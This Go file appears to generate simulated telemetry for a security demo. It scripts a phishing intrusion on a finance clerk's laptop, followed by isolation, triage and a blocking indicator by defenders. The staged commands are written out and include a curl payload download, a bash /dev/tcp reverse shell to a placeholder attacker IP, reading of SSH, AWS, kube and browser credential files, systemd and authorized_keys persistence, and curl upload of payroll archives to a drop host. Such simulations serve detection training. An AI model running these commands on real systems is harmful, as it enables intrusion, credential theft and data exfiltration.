package demo

import (
	"fmt"
	"time"
)

// Addresses of the attackers, in the ranges for documentation.
const (
	phisherC2   = "203.0.113.66"
	phisherDrop = "203.0.113.71"
	bruteForcer = "198.51.100.77"
	minerPool   = "203.0.113.140"
	minerDrop   = "203.0.113.141"
	chainC2     = "203.0.113.200"
)

// Names of the attackers.
const (
	phisherName = "invoice-portal.example"
	dropName    = "files-transfer.example"
	poolName    = "pool.xmr-stratum.example"
	chainName   = "telemetry.color-stream.example"
)

// phishing: a clerk opens what looks like an invoice; a shell for somebody outside, ways to
// come back, stolen keys, a file server reached with them, and the books on their way out.
func phishing(s *scene) {
	c := s.company
	lt := c.laptopOf(clerk)
	at := s.at(5, 9, 12)
	a := s.on(lt.name, "phishing", at)
	user := lt.account(clerk, lt.owner.uid)
	home := "/home/" + clerk
	shell := a.begin("/usr/bin/gnome-shell", "/usr/bin/gnome-shell", user, nil)
	mail := a.run(shell, "/usr/bin/thunderbird", "/usr/bin/thunderbird")
	lure := file(home+"/Downloads/Invoice_4471.pdf.sh", "invoice lure", 2113)
	a.file(mail, "FileCreated", lure)
	a.after(20 * time.Second)
	sh := a.run(mail, "/usr/bin/bash", "/bin/bash "+lure.Path)
	a.run(sh, "/usr/bin/xdg-open", "xdg-open /tmp/Invoice_4471.pdf")
	curl := a.run(sh, "/usr/bin/curl", "curl -fsSL https://"+phisherName+"/p/4471 -o "+home+"/.cache/fontconfig-upd")
	a.resolve(curl, phisherName, phisherC2)
	a.connect(curl, phisherC2, 443, phisherName)
	stage := file(home+"/.cache/fontconfig-upd", "phishing stage two", 884_736)
	a.file(curl, "FileCreated", stage)
	a.run(sh, "/usr/bin/chmod", "chmod +x "+stage.Path)
	a.flush()
	a.after(4 * time.Second)
	imp := a.payload(sh, stage, stage.Path+" --daemon", nil)
	a.connect(imp, phisherC2, 443, phisherName)
	a.flush()

	// A shell for whoever is at the other end.
	a.after(3 * time.Minute)
	rev := a.run(imp, "/usr/bin/bash", fmt.Sprintf("bash -c 'exec bash -i &>/dev/tcp/%s/8443 <&1'", phisherC2))
	a.connect(rev, phisherC2, 8443, "")
	hand := a.run(rev, "/usr/bin/bash", "bash -i")
	a.flush()
	a.after(40 * time.Second)
	for _, cmd := range []string{"id", "whoami", "hostname -f", "uname -a", "ip addr", "ss -tlnp", "ps auxf", "getent passwd", "last -20", "findmnt"} {
		a.run(hand, "/usr/bin/"+firstWord(cmd), cmd)
		a.after(2 * time.Second)
	}
	a.flush()

	a.after(6 * time.Minute)
	for _, p := range []string{home + "/.ssh/id_ed25519", home + "/.aws/credentials", home + "/.kube/config", home + "/.mozilla/firefox/p1.default/logins.json"} {
		cat := a.run(hand, "/usr/bin/cat", "cat "+p)
		a.reads(cat, p)
	}
	a.flush()
	a.after(2 * time.Minute)
	a.file(hand, "FileCreated", file(home+"/.config/systemd/user/fontconfig-upd.service", "phishing unit", 214))
	a.run(hand, "/usr/bin/systemctl", "systemctl --user enable --now fontconfig-upd.service")
	a.file(hand, "FileModified", file(home+"/.ssh/authorized_keys", "phishing key", 611))
	a.flush()

	// With the clerk's key to the file server.
	a.after(34 * time.Minute)
	ssh := a.run(hand, "/usr/bin/ssh", "ssh -o StrictHostKeyChecking=no "+clerk+"@file-01")
	a.connect(ssh, c.host("file-01").ip, 22, "file-01."+domain)
	a.flush()
	f := s.on("file-01", "phishing", a.now.Add(time.Second))
	login := f.logon(clerk, lt.owner.uid, lt.ip, lt.name, "")
	for _, cmd := range []string{"id", "w", "uname -r", "ip route", "ss -tn", "ps aux", "lsblk", "getent group", "findmnt -t nfs4"} {
		f.run(login, "/usr/bin/"+firstWord(cmd), cmd)
		f.after(3 * time.Second)
	}
	f.flush()
	f.after(11 * time.Minute)
	f.run(login, "/usr/bin/tar", "tar -C /srv/share -czf /tmp/.q3.tgz Finance/2026-Q3 Finance/Payroll")
	f.file(login, "FileCreated", file("/tmp/.q3.tgz", "the books", 412<<20))
	up := f.run(login, "/usr/bin/curl", "curl -s -T /tmp/.q3.tgz https://"+dropName+"/u/9c1e")
	f.resolve(up, dropName, phisherDrop)
	f.connect(up, phisherDrop, 443, dropName)
	f.flush()
	f.after(5 * time.Minute)
	rm := f.run(login, "/usr/bin/shred", "shred -u /home/"+clerk+"/.bash_history")
	f.file(rm, "FileDeleted", file("/home/"+clerk+"/.bash_history", "history", 3000))
	f.run(login, "/usr/bin/rm", "rm -f /tmp/.q3.tgz")
	f.flush()

	s.people(at.Add(95*time.Minute), "isolating the clerk's laptop", func(d *desk) error {
		return d.act(lt, "isolate", m{"Comment": "Reverse shell from an opened attachment; contain while we look.", "IsolationType": "Full"})
	})
	s.people(at.Add(2*time.Hour), "triage of the phishing", func(d *desk) error {
		return d.triage(lt, m{"status": "InProgress", "assignedTo": "b.okafor@" + domain, "comment": "Finance clerk opened Invoice_4471. Laptop isolated; file-01 reached with her key. Legal informed.", "tags": []string{"Phishing", "Data loss"}})
	})
	s.people(at.Add(2*time.Hour+20*time.Minute), "an indicator of the phishing", func(d *desk) error {
		return d.indicator("DomainName", dropName, "Block", "High", "Drop of the invoice phishing", true)
	})
}

func firstWord(s string) string {
	for i := range len(s) {
		if s[i] == ' ' {
			return s[:i]
		}
	}
	return s
}
